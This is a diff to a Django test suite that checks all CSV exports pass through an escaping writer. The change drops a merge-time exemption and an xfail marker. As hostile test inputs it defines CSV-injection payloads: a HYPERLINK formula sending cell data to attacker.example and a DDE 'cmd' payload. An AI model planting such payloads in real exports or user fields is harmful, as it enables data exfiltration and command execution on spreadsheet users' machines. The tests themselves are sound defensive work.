@@ -19,13 +19,11 @@ from network import standards
 from network.csvexport import FORMULA_START, csv_cell, csv_writer
 from network.models import Network, Vocabulary
 from tests.support import log_encounter, make_user, open_activation
+from tests.test_reporting import published
 
 ROOT = Path(__file__).resolve().parent.parent
 NOT_APP_CODE = {".venv", ".data", ".git", "tests", "static", "benchmarks", "templates", "node_modules"}
 THE_WRITER = Path("network/csvexport.py")
-# reporting/views.py belongs to branch `publish` (issue 12, section 1): the lead switches its `_csv` to
-# network.csvexport.csv_writer at merge, then removes this entry (the test fails while it is stale).
-PENDING_AT_MERGE = {Path("reporting/views.py")}
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
 HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"]
@@ -70,8 +68,7 @@ def test_no_module_writes_csv_except_through_network_csvexport():
     offenders = {
         path for path in app_modules() if path != THE_WRITER and csv_writer_calls((ROOT / path).read_text("utf-8"))
     }
-    assert offenders - PENDING_AT_MERGE == set(), "write CSV with network.csvexport.csv_writer"
-    assert PENDING_AT_MERGE <= offenders, "already switched to csv_writer: remove it from PENDING_AT_MERGE"
+    assert offenders == set(), "write CSV with network.csvexport.csv_writer"
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -136,11 +133,6 @@ def test_offboarding_export_escapes_hostile_text_in_every_text_column(world, tmp
         assert formula_cells(rows) == [], name
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="reporting/views.py (branch publish) still calls csv.writer; passes once the lead switches it to "
-    "network.csvexport.csv_writer at merge: then remove this marker",
-)
 @pytest.mark.django_db
 def test_dashboard_csvs_escape_labels_the_state_admin_typed(client, world):
     """Breakdown labels come from the documentation standard's vocabulary, region names from the
@@ -151,6 +143,7 @@ def test_dashboard_csvs_escape_labels_the_state_admin_typed(client, world):
     terms[Vocabulary.CONTACT_MODE] = [(code, HYPERLINK if code == "phone" else label, concept)
                                       for code, label, concept in terms[Vocabulary.CONTACT_MODE]]  # fmt: skip
     standards.standard_publish(actor=world.state_admin, network=network, terms=terms)
+    published(world)  # leadership CSVs show published periods only, with the labels of their publication
 
     for user, url in ((world.a[Role.CHIEF], f"/a/{world.agency_a.slug}/dashboard/export.csv"),
                       (world.state_admin, "/network/dashboard/export.csv")):  # fmt: skip
